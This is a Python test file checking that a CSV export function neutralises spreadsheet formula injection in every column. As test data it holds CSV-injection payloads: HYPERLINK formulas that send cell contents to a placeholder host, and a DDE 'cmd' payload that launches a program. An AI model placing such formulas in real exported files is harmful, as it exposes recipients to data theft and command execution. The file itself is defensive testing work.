"""I31: no cell of a table that leaves the desk is a formula, in whichever column it stands."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from counsel_desk.services.documents.csv_table import csv_table

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = [f'{start}HYPERLINK("http://x/"&A1)' for start in STARTS]
FORMULAS += [f" {formula}" for formula in FORMULAS]
WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
CELLS = st.one_of(st.sampled_from(FORMULAS), WORDS)
ROWS = st.lists(st.lists(CELLS, min_size=3, max_size=3))


def cells(table: bytes) -> list[list[str]]:
    """Return the rows of a CSV file as a spreadsheet reads them."""
    return list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))


@given(ROWS)
def test_i31_no_cell_of_any_column_is_a_formula_and_every_word_is_there(
    rows: list[list[str]],
) -> None:
    read = cells(csv_table(("a", "b", "c"), rows))
    assert read[0] == ["a", "b", "c"]
    assert [[cell.removeprefix("'") for cell in row] for row in read[1:]] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not [cell for row in read for cell in row if cell.lstrip().startswith(STARTS)]


@pytest.mark.parametrize("column", range(3))
def test_i31_every_column_is_in_quotes(column: int) -> None:
    row = ["plain", "plain", "plain"]
    row[column] = ';=cmd|" /C calc"!A0'
    lines = csv_table(row, [row]).decode("utf-8-sig").splitlines()
    for line in lines:
        assert line.startswith('"')
        assert line.endswith('"')
        assert line.count('","') == 2
